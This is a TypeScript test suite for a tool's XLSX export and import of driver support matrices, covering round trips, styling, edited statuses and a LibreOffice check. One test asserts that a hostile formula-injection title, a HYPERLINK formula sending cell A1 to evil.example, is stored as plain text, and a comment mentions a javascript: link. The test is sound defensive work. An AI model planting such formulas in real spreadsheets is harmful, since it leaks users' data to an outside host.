/**
 * XLSX: INI -> xlsx -> model equals INI -> model for every sample and the
 * hostile model; the Summary sheet is a styled matrix (golden: a textual dump
 * of cells and styles in test/golden/xlsx/, regenerate with
 * FMX_UPDATE_GOLDEN=1 npx vitest run test/formats); statuses edited in the
 * Summary come back; LibreOffice, where installed, reads the Summary the way
 * we wrote it and runs nothing. Workbooks stay in memory except the ones
 * LibreOffice opens.
 */

import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS, { type Cell, type Workbook, type Worksheet } from 'exceljs';
import { describe, expect, it } from 'vitest';
import { FmxError, formatDiagnostic } from '../../../src/diagnostics.js';
import { emitXlsx } from '../../../src/formats/xlsx/write.js';
import { sniffFormat } from '../../../src/formats/registry.js';
import { joinStatus, type Matrix } from '../../../src/model/matrix.js';
import { read } from '../../../src/formats/xlsx/read.js';
import { expectGolden } from '../../helpers/golden.js';
import { HOSTILE, INI_SAMPLES, collectingOptions, hostileModel, plain, sampleModel } from '../models.js';

function describeCell(c: Cell): string {
  const parts: string[] = [JSON.stringify(c.value)];
  if (c.numFmt && c.numFmt !== 'General') parts.push(`fmt=${c.numFmt}`);
  const fill = c.fill && c.fill.type === 'pattern' ? c.fill.fgColor?.argb : undefined;
  if (fill) parts.push(`fill=${fill}`);
  if (c.font?.bold) parts.push('bold');
  if (c.font?.color?.argb) parts.push(`color=${c.font.color.argb}`);
  if (c.note) parts.push(`note=${JSON.stringify(typeof c.note === 'string' ? c.note : c.note.texts?.map((t) => t.text).join(''))}`);
  return parts.join(' ');
}

/** A stable text form of a workbook: sheets, views, filters, widths; every Summary and Drivers cell; the Details header. */
function dump(wb: Workbook): string {
  const out: string[] = [];
  for (const ws of wb.worksheets) {
    out.push(`# sheet ${ws.name} (${ws.rowCount} rows x ${ws.columnCount} columns)`);
    out.push(`views: ${JSON.stringify(ws.views.map((v) => ({ state: v.state, xSplit: (v as { xSplit?: number }).xSplit, ySplit: (v as { ySplit?: number }).ySplit })))}`);
    out.push(`autoFilter: ${JSON.stringify(ws.autoFilter)}`);
    const cols: string[] = [];
    for (let c = 1; c <= ws.columnCount; c++) {
      const col = ws.getColumn(c);
      cols.push(`${col.letter}=${col.width ?? '-'}${col.hidden ? ' hidden' : ''}`);
    }
    out.push(`columns: ${cols.join(', ')}`);
    const rules = (ws as unknown as { conditionalFormattings: { ref: string; rules: { operator: string; formulae: string[]; style: { fill?: { fgColor?: { argb?: string } }; font?: { color?: { argb?: string } } } }[] }[] }).conditionalFormattings;
    for (const cf of rules) {
      out.push(`conditional ${cf.ref}: ${cf.rules.map((r) => `${r.operator} ${r.formulae.join()} fill=${r.style.fill?.fgColor?.argb} color=${r.style.font?.color?.argb}`).join('; ')}`);
    }
    const validations = (ws as unknown as { dataValidations: { model: Record<string, { type: string; formulae: string[]; allowBlank?: boolean }> } }).dataValidations.model;
    const byRule = new Map<string, string[]>();
    for (const [ref, v] of Object.entries(validations)) {
      const rule = `${v.type} ${v.formulae.join()}${v.allowBlank ? ' blank allowed' : ''}`;
      byRule.set(rule, [...(byRule.get(rule) ?? []), ref]);
    }
    for (const [rule, refs] of byRule) out.push(`validation of ${refs.length} cells (${refs[0]} .. ${refs.at(-1)}): ${rule}`);
    const rows = ws.name === 'Details' ? 1 : ws.rowCount;
    for (let r = 1; r <= rows; r++) dumpRow(ws, r, out);
  }
  return out.join('\n') + '\n';
}

function dumpRow(ws: Worksheet, r: number, out: string[]): void {
  const row = ws.getRow(r);
  row.eachCell({ includeEmpty: false }, (c) => out.push(`${c.address} ${describeCell(c)}`));
}

/** The workbook as exceljs (an independent reader) sees it. */
async function loadWorkbook(bytes: Uint8Array): Promise<Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return wb;
}

async function roundTrip(m: Matrix, name: string) {
  const bytes = emitXlsx(m);
  const wb = await loadWorkbook(bytes);
  const { read: opts, warnings } = collectingOptions(name);
  return { bytes, wb, matrix: (await read(bytes, opts)).matrix, warnings };
}

describe('xlsx', () => {
  it('every sample: INI -> xlsx -> model equals INI -> model; golden dump', async () => {
    for (const name of INI_SAMPLES) {
      const m = sampleModel(name);
      const { bytes, wb, matrix, warnings } = await roundTrip(m, name);
      expect(plain(matrix), name).toEqual(plain(m));
      expect(warnings, name).toEqual([]);
      expect(sniffFormat(bytes)).toBe('xlsx');
      expectGolden(`xlsx/${name.replace(/\.ini$/, '.txt')}`, dump(wb));
    }
  }, 120000);

  it.each(['support-matrix', 'targets', 'feature-classification'] as const)('hostile model (%s) round trips', async (dialect) => {
    const m = hostileModel(dialect);
    const { matrix, warnings } = await roundTrip(m, 'hostile.xlsx');
    expect(plain(matrix)).toEqual(plain(m));
    expect(warnings).toEqual([]);
  });

  it('text is stored as text, never as a formula; only web links are hyperlinks', async () => {
    const { wb } = await roundTrip(hostileModel(), 'hostile.xlsx');
    const values: unknown[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => values.push(c.value)));
    expect(values.filter((v) => typeof v === 'object' && v !== null && ('formula' in v || 'sharedFormula' in v))).toEqual([]);
    const summary = wb.getWorksheet('Summary')!;
    const titles: unknown[] = [];
    summary.getColumn(1).eachCell((c) => titles.push(c.value));
    expect(titles).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(titles).toContain('@SUM(1+1)');
    const header = summary.getRow(1);
    expect(header.getCell(3).value).toBe(HOSTILE[0]); // driver link javascript:... is not a hyperlink
    expect(header.getCell(6).value).toMatchObject({ text: 'Plain ✔ driver', hyperlink: 'https://example.org/x_(y)' });
  });

  it('Summary: frozen header and first column, autofilter, colours, notes as comments, hidden key column', async () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    const { wb } = await roundTrip(m, 'fake.xlsx');
    const ws = wb.getWorksheet('Summary')!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.getCell('C2').value).toBe('complete');
    // Colours follow the value (conditional formatting), so an edited cell takes its new colour; a drop-down offers the statuses.
    expect(ws.getCell('C2').fill).not.toMatchObject({ fgColor: { argb: 'FFC6EFCE' } });
    const cf = (ws as unknown as { conditionalFormattings: { ref: string; rules: { operator: string; formulae: string[]; style: { fill: { fgColor: { argb: string } } } }[] }[] }).conditionalFormattings;
    expect(cf.map((c) => c.ref)).toEqual(['C2:D2']);
    expect(cf[0]!.rules.map((r) => `${r.operator} ${r.formulae.join()} ${r.style.fill.fgColor.argb}`)).toEqual([
      'equal "complete" FFC6EFCE',
      'equal "partial" FFFFEB9C',
      'equal "missing" FFFFC7CE',
      'equal "unknown" FFE7E6E6',
    ]);
    expect(ws.getCell('D2').dataValidation).toMatchObject({ type: 'list', allowBlank: true, formulae: ['"complete,partial,missing,unknown"'] });
    expect(ws.getCell('D2').value).toBe('partial');
    const note = ws.getCell('D2').note;
    expect(typeof note === 'string' ? note : note?.texts?.map((t) => t.text).join('')).toBe('Requires hardware support.');
    expect(ws.getColumn(5).hidden).toBe(true);
    expect(ws.getCell('E2').value).toBe('operation.Cool_Feature');
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Summary', 'Details', 'Drivers']);
  });

  it('statuses edited in the Summary sheet come back, each as the first of its two copies', async () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    const { wb } = await roundTrip(m, 'fake.xlsx');
    const ws = wb.getWorksheet('Summary')!;
    ws.getCell('B2').value = 'mandatory';
    ws.getCell('D2').value = 'complete';
    const edited = new Uint8Array(await wb.xlsx.writeBuffer());
    const { read: opts, warnings } = collectingOptions('edited.xlsx');
    const loaded = await read(edited, opts);
    const back = loaded.matrix;
    expect(back.features[0]!.status).toBe('mandatory');
    expect(back.features[0]!.implementations.map((i) => `${i.driver}=${i.status}`)).toEqual(['foo=complete', 'bar=complete']);
    expect(warnings.map(formatDiagnostic)).toEqual([]);
    expect(loaded.repeated!.map((r) => [r.ref, r.copies.map((c) => [c.value, 'cell' in c.at ? c.at.cell.replace(/\d+$/, '') : c.at])])).toEqual([
      [{ feature: 'operation.Cool_Feature', field: 'status' }, [['mandatory', 'Summary!B'], ['optional', expect.stringMatching(/^Details!/)]]],
      [{ feature: 'operation.Cool_Feature', driver: 'bar', field: 'status' }, [['complete', 'Summary!D'], ['partial', expect.stringMatching(/^Details!/)]]],
    ]);
  });

  it('a bad Details sheet is an FmxError naming the file, row and sheet', async () => {
    const { wb } = await roundTrip(sampleModel('sphinx-feature-classification-fake-support-matrix.ini'), 'fake.xlsx');
    wb.getWorksheet('Details')!.getCell('E4').value = 'no-such-dialect';
    const edited = new Uint8Array(await wb.xlsx.writeBuffer());
    await expect(read(edited, collectingOptions('bad.xlsx').read)).rejects.toThrow(
      'bad.xlsx: Details!A4: fmx:dialect: expected one of support-matrix, targets, feature-classification',
    );
  });

  it('bad input is an FmxError', async () => {
    const { read: opts } = collectingOptions('bad.xlsx');
    await expect(read(Buffer.from('PK\u0003\u0004 not a zip'), opts)).rejects.toThrow(FmxError);
    await expect(read(Buffer.from('PK\u0003\u0004 not a zip'), opts)).rejects.toThrow(/^bad\.xlsx: not a readable XLSX \(ZIP\) file: no end of central directory/);
  });

  const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
  const haveSoffice = soffice.status === 0;
  if (!haveSoffice) console.log('LibreOffice cross-check skipped: soffice is not installed (Debian: apt-get install libreoffice-calc-nogui)');
  it.runIf(haveSoffice)('LibreOffice reads the Summary sheet as written and runs nothing; a workbook it saves again still reads', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fmx-xlsx-'));
    try {
      const models: [string, Matrix][] = [
        ['nova', sampleModel('nova-33.0.0-support-matrix.ini')],
        ['hostile', hostileModel()],
      ];
      for (const [name, m] of models) writeFileSync(join(dir, `${name}.xlsx`), await emitXlsx(m));
      const r = spawnSync(
        'soffice',
        [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', dir, ...models.map(([n]) => join(dir, `${n}.xlsx`))],
        { encoding: 'utf8', timeout: 90000 },
      );
      expect(r.status, r.stderr).toBe(0);
      // The workbook saved again by LibreOffice still reads: only empty values become absent, CR LF becomes LF.
      const resaved = join(dir, 'resaved');
      const r2 = spawnSync(
        'soffice',
        [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--convert-to', 'xlsx:Calc MS Excel 2007 XML', '--outdir', resaved, join(dir, 'hostile.xlsx')],
        { encoding: 'utf8', timeout: 90000 },
      );
      expect(r2.status, r2.stderr).toBe(0);
      const again = (await read(readFileSync(join(resaved, 'hostile.xlsx')), collectingOptions('resaved.xlsx').read)).matrix;
      const emptyToNull = (x: Matrix) => JSON.parse(JSON.stringify(plain(x)).replace(/:""/g, ':null').replace(/\\r\\n/g, '\\n'));
      expect(emptyToNull(again)).toEqual(emptyToNull(models[1]![1]));

      const fold = (s: string | null) => (s ?? '').replace(/\s+/g, ' ').trim();
      for (const [name, m] of models) {
        const rows = parse(readFileSync(join(dir, `${name}.csv`), 'utf8'), { relax_column_count: true }) as string[][];
        expect(rows[0]!.slice(0, 2 + m.drivers.length).map(fold)).toEqual(['Feature', 'Status', ...m.drivers.map((d) => fold(d.title ?? d.key))]);
        m.features.forEach((f, i) => {
          const row = rows[i + 1]!;
          const expected = [f.title ?? f.key, joinStatus(f.status, f.group) ?? '', ...m.drivers.map((d) => f.implementations.find((x) => x.driver === d.key)?.status ?? '')];
          expect(row.slice(0, expected.length).map(fold), `${name} row ${i + 2}`).toEqual(expected.map(fold));
        });
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120000);
});
